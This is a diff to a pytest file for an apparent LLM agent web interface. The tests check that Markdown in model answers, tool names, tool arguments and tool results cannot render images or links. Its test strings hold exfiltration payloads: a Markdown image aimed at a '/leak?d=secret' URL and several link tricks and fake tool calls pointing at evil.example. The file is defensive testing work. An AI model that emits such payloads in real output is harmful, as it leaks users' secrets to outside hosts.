@@ -4,18 +4,23 @@ the password gate."""
 
 from __future__ import annotations
 
+import json
 import os
-import re
 import stat
 import time
+from pathlib import Path
 
 import pytest
 
+from liteagent.web.markup import STYLE, allowed_html
 from liteagent.web.store import ConversationStore
 from scripted_server import ScriptedServer
 
+from .hostile import HOSTILE_TEXT, TRICKS
+from .page import link_makers, shown
+
 KEY = "sk-operator-5ecret-d0-not-leak"
-UNESCAPED_IMAGE = re.compile(r"(?<!\\)!\\?\[[^\]]*\\?\]\\?\(")  # ![x](…, any part not escaped
+HOSTILE = str(Path(__file__).resolve().parent / "hostile.py") + ":Hostile"
 
 
 def walk(node):
@@ -77,6 +82,28 @@ def test_a_visitor_cannot_send_the_key_elsewhere(web_env, app_test, server):
         other.stop()
 
 
+def markdown_slots(at) -> list[str]:
+    """Every string Streamlit renders as Markdown itself (so GFM could link in it), but buttons."""
+    return (
+        [e.label for e in at.expander]
+        + [e.value for e in at.error]
+        + [m.value for m in at.markdown]
+        + [c.value for c in at.caption]
+        + [w.value for w in at.warning]
+        + [i.value for i in at.info]
+    )
+
+
+def assert_no_link_can_be_made(at) -> None:
+    for r in markdown_slots(at):
+        assert not link_makers(r), r
+    for b in [*at.sidebar.button, *at.button]:
+        assert not link_makers(b.label, button=True), b.label
+    for h in at.html:  # our style, or what our renderer wrote and its allowlist passed
+        assert h.value == STYLE or allowed_html(h.value), h.value
+        assert "<a" not in h.value and "<img" not in h.value, h.value
+
+
 def test_markdown_from_models_and_tools_loads_no_image_anywhere(web_env, app_test, server):
     evil = "![x](http://127.0.0.1:9/leak?d=secret)"
     server.replies = [
@@ -87,17 +114,46 @@ def test_markdown_from_models_and_tools_loads_no_image_anywhere(web_env, app_tes
     at = app_test()
     at.run()
     ask(at, evil)
-    rendered = (
-        [e.label for e in at.expander]
-        + [e.value for e in at.error]
-        + [m.value for m in at.markdown]
-        + [c.value for c in at.caption]
-        + [b.label for b in at.sidebar.button]
-        + [w.value for w in at.warning]
-    )
-    assert any("leak" in r for r in rendered), rendered  # the text is shown ...
-    for r in rendered:
-        assert not UNESCAPED_IMAGE.search(r.replace("!\\[", "")), r  # ... never as an image
+    assert any("leak" in r for r in markdown_slots(at) + shown(at)), markdown_slots(at)  # the text is shown ...
+    assert_no_link_can_be_made(at)  # ... never as an image, nor a link
+
+
+def test_no_link_from_any_model_or_tool_text(web_env, app_test, server):
+    """Issue 23, 6: every link trick in the answer, a tool's name, its arguments, its text, JSON
+    and error results, and a server error: no Markdown slot can link, no HTML holds a link, and
+    the same once the conversation is drawn from the history."""
+    web_env(plugins=["EnvChecker", HOSTILE], extra_specs=[HOSTILE])
+    calls = [
+        {"name": "https://evil.example/tool [t](https://evil.example/tn) bob@evil.example", "arguments": {}},
+        {"name": "Hostile.echo", "arguments": {"text": "[a](https://evil.example/arg)"}},
+        {"name": "Hostile.data", "arguments": {"text": "www.evil.example"}},
+        {"name": "Hostile.fail", "arguments": {"text": "<https://evil.example/fail>"}},
+    ]
+    server.replies = [
+        "".join(f"<tool_call>{json.dumps(c)}</tool_call>" for c in calls),
+        HOSTILE_TEXT,
+        {"status": 400, "error": HOSTILE_TEXT},  # 400: not retried
+    ]
+    at = app_test("ivan")
+    at.run()
+    ask(at, "[q](https://evil.example/q) " + HOSTILE_TEXT)
+    ask(at, "again")
+    assert any("evil.example/tool" in e.label for e in at.expander)
+    assert any("Hostile.fail" in e.label and "api\\_error" in e.label for e in at.expander)
+    assert any("evil.example/inline" in text for text in shown(at))
+    assert any("answered 400" in e.value and "evil.example" in e.value for e in at.error)
+    assert_no_link_can_be_made(at)
+    again = app_test("ivan")  # the history, drawn by a new session
+    again.run()
+    [b for b in again.sidebar.button if "evil" in b.label][0].click().run()
+    assert any("evil.example/inline" in text for text in shown(again))
+    assert_no_link_can_be_made(again)
+
+
+def test_link_makers_sees_what_streamlit_would_link():
+    """The check above, checked: it finds each trick in Markdown as it was shown before."""
+    for trick in [t for t in TRICKS[:13] if "javascript" not in t]:  # markdown-it drops javascript: links
+        assert link_makers(trick), trick
 
 
 def test_database_is_private_and_sidebar_pages(web_env, app_test, tmp_path):
